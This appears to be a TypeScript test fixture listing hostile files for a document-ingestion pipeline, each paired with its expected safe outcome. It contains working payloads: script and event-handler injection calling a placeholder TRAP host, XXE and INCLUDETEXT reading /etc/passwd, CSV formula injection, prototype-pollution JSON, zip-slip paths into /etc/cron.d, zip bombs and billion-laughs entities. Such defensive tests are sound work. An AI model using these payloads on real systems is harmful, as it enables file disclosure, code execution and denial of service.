/** @file Files that would run, swell, escape or fetch when a careless program reads or shows them. TRAP is put in by the test. */
import { zipSync } from "fflate";
import { docxFromBody, wordParagraph } from "../../scripts/samples/office-writer.ts";
import type { HostileFile } from "./kinds.ts";

const read = { read: true } as const;
const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);
const failed = (...codes: readonly string[]) => ({ failed: codes }) as const;
const page = (body: string): string => `<!doctype html><html><body><p>钟楼开放。</p>${body}</body></html>`;
const bomb = ["document_bomb", "document_too_heavy", "document_too_large", "document_corrupt", "document_timeout"];

export const scripts: readonly HostileFile[] = [
  { id: "run-01", tries: "a script in a page", name: "f/run-01.html", bytes: page("<script>fetch('TRAP/s')</script>"), ends: read },
  { id: "run-02", tries: "a handler on an image", name: "f/run-02.html", bytes: page("<img src=x onerror=fetch('TRAP/e')>"), ends: read },
  {
    id: "run-03",
    tries: "a frame of a script address",
    name: "f/run-03.html",
    bytes: page("<iframe src='javascript:fetch(`TRAP/f`)'></iframe>"),
    ends: read,
  },
  {
    id: "run-04",
    tries: "a page that goes elsewhere",
    name: "f/run-04.html",
    bytes: `<meta http-equiv=refresh content="0;url=TRAP/m">${page("")}`,
    ends: read,
  },
  { id: "run-05", tries: "a style that fetches", name: "f/run-05.html", bytes: page("<style>@import url(TRAP/c);</style>"), ends: read },
  {
    id: "run-06",
    tries: "a form that sends itself",
    name: "f/run-06.html",
    bytes: page("<form action=TRAP/p><input autofocus onfocus=this.form.submit()></form>"),
    ends: read,
  },
  {
    id: "run-07",
    tries: "an SVG inside a page",
    name: "f/run-07.html",
    bytes: page("<svg onload=fetch('TRAP/v')><image href=TRAP/i /></svg>"),
    ends: read,
  },
  {
    id: "run-08",
    tries: "a picture that is a program (SVG)",
    name: "f/run-08.svg",
    bytes: "<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('TRAP/g')</script><text>塔</text></svg>",
    ends: read,
  },
  {
    id: "run-09",
    tries: "an SVG that reads a file of the machine",
    name: "f/run-09.svg",
    bytes:
      "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&x;</text></svg>",
    ends: read,
  },
  { id: "run-10", tries: "Markdown with a script", name: "f/run-10.md", bytes: "# 甲\n\n<script>fetch('TRAP/k')</script>\n\n正文。\n", ends: read },
  { id: "run-11", tries: "Markdown with a script address", name: "f/run-11.md", bytes: "# 乙\n\n[点](javascript:alert(1)) 正文。\n", ends: read },
  { id: "run-12", tries: "Markdown with an image elsewhere", name: "f/run-12.md", bytes: "# 丙\n\n![x](TRAP/img) 正文。\n", ends: read },
  { id: "run-13", tries: "an address split by a tab", name: "f/run-13.md", bytes: "# 丁\n\n[点](java\tscript:alert(1)) 正文。\n", ends: read },
  { id: "run-14", tries: "an autolink of a script", name: "f/run-14.md", bytes: "# 戊\n\n<javascript:alert(1)> 正文。\n", ends: read },
  { id: "run-15", tries: "a page called text", name: "f/run-15.txt", bytes: page("<script>fetch('TRAP/t')</script>"), ends: read },
  {
    id: "run-16",
    tries: "a table with a formula",
    name: "f/run-16.csv",
    bytes: "名称,值\n甲,=cmd|'/c calc'!A1\n乙,=HYPERLINK(\"TRAP/csv\")\n",
    ends: read,
  },
  {
    id: "run-17",
    tries: "a mail that calls home",
    name: "f/run-17.eml",
    bytes: "From: a@b.c\r\nSubject: x\r\nContent-Type: text/html\r\n\r\n<p>角楼。</p><img src='TRAP/eml'>",
    ends: read,
  },
  {
    id: "run-18",
    tries: "a Word file with an outside picture",
    name: "f/run-18.docx",
    bytes: () =>
      docxFromBody(wordParagraph("箭楼。"), {
        "word/_rels/document.xml.rels": `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="TRAP/dotm" TargetMode="External"/></Relationships>`,
      }),
    ends: read,
  },
  {
    id: "run-19",
    tries: "a Word file whose text names a file of the machine",
    name: "f/run-19.docx",
    bytes: () => docxFromBody(wordParagraph('INCLUDETEXT "/etc/passwd" 望楼。'), {}),
    ends: read,
  },
  {
    id: "run-20",
    tries: "a JSON file with keys of the language",
    name: "f/run-20.json",
    bytes: '{"__proto__":{"admin":true},"constructor":{"prototype":{"x":1}},"名称":"谯楼"}',
    ends: read,
  },
];

const deep = (levels: number): Uint8Array => {
  let inner: Uint8Array = utf8("核心");
  for (let i = 0; i < levels; i++) inner = zipSync({ [`${i}.zip`]: inner });
  return inner;
};

export const archives: readonly HostileFile[] = [
  {
    id: "zip-01",
    tries: "64 MB of zeros in a small archive",
    name: "z/zip-01.zip",
    bytes: () => zipSync({ "a.txt": new Uint8Array(64 << 20) }, { level: 9 }),
    ends: failed(...bomb),
  },
  { id: "zip-02", tries: "archives in archives, twelve deep", name: "z/zip-02.zip", bytes: () => deep(12), ends: failed("document_bomb") },
  {
    id: "zip-03",
    tries: "members that lead out of the folder",
    name: "z/zip-03.zip",
    bytes: () => zipSync({ "../../etc/cron.d/x": utf8("* * * * * root true"), "ok.md": utf8("# 内\n\n正文。\n") }),
    ends: failed("path_unsafe"),
  },
  {
    id: "zip-04",
    tries: "a member with an absolute name",
    name: "z/zip-04.zip",
    bytes: () => zipSync({ "/etc/starbox-hostile": utf8("x"), "ok.md": utf8("# 内\n\n正文。\n") }),
    ends: failed("path_unsafe"),
  },
  {
    id: "zip-05",
    tries: "a member with backslashes",
    name: "z/zip-05.zip",
    bytes: () => zipSync({ "..\\..\\windows\\x.md": utf8("# x\n\n正文。\n") }),
    ends: failed("path_unsafe"),
  },
  {
    id: "zip-06",
    tries: "25,000 members",
    name: "z/zip-06.zip",
    bytes: () => zipSync(Object.fromEntries(Array.from({ length: 25_000 }, (_, i) => [`${i}.txt`, utf8("x")])), { level: 0 }),
    ends: failed(...bomb),
  },
  {
    id: "zip-07",
    tries: "an archive cut in the middle",
    name: "z/zip-07.zip",
    bytes: () => zipSync({ "a.md": utf8("正文".repeat(100)) }).slice(0, 60),
    ends: failed("document_corrupt", "unsupported_format"),
  },
  {
    id: "zip-08",
    tries: "a Word file that is a bomb",
    name: "z/zip-08.docx",
    bytes: () => docxFromBody(wordParagraph("a".repeat(40 << 20)), {}),
    ends: failed(...bomb),
  },
  {
    id: "zip-09",
    tries: "entities that multiply (billion laughs)",
    name: "z/zip-09.docx",
    bytes: () =>
      docxFromBody(`${wordParagraph("&z;")}`, {
        "word/document.xml": `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 25 }, (_, i) => `<!ENTITY ${String.fromCharCode(98 + (i % 24))}${i} "&a;&a;&a;">`).join("")}]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>角楼 &a;</w:t></w:r></w:p></w:body></w:document>`,
      }),
    ends: read,
  },
  {
    id: "zip-10",
    tries: "HTML nested 200,000 deep",
    name: "z/zip-10.html",
    bytes: `${"<div>".repeat(200_000)}钟楼`,
    ends: failed("document_corrupt"),
  },
  { id: "zip-11", tries: "one line of 45 MB", name: "z/zip-11.txt", bytes: () => new Uint8Array(45 << 20).fill(97), ends: failed(...bomb) },
  {
    id: "zip-12",
    tries: "a PDF that is noise",
    name: "z/zip-12.pdf",
    bytes: `%PDF-1.7\n${"1 0 obj << /Length 99999999 >> stream\n".repeat(500)}`,
    ends: failed("document_corrupt", "document_empty", "document_needs_ocr"),
  },
  {
    id: "zip-13",
    tries: "a program called a text",
    name: "z/zip-13.txt",
    bytes: () => Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, ...new Array<number>(4096).fill(0)]),
    ends: failed("unsupported_format", "encoding_unknown"),
  },
  { id: "zip-14", tries: "an empty file", name: "z/zip-14.md", bytes: "", ends: failed("document_empty") },
  {
    id: "zip-15",
    tries: "a table of 2,000 columns",
    name: "z/zip-15.csv",
    bytes: () => utf8(`${"a,".repeat(2000)}\n`.repeat(100)),
    ends: read,
  },
];
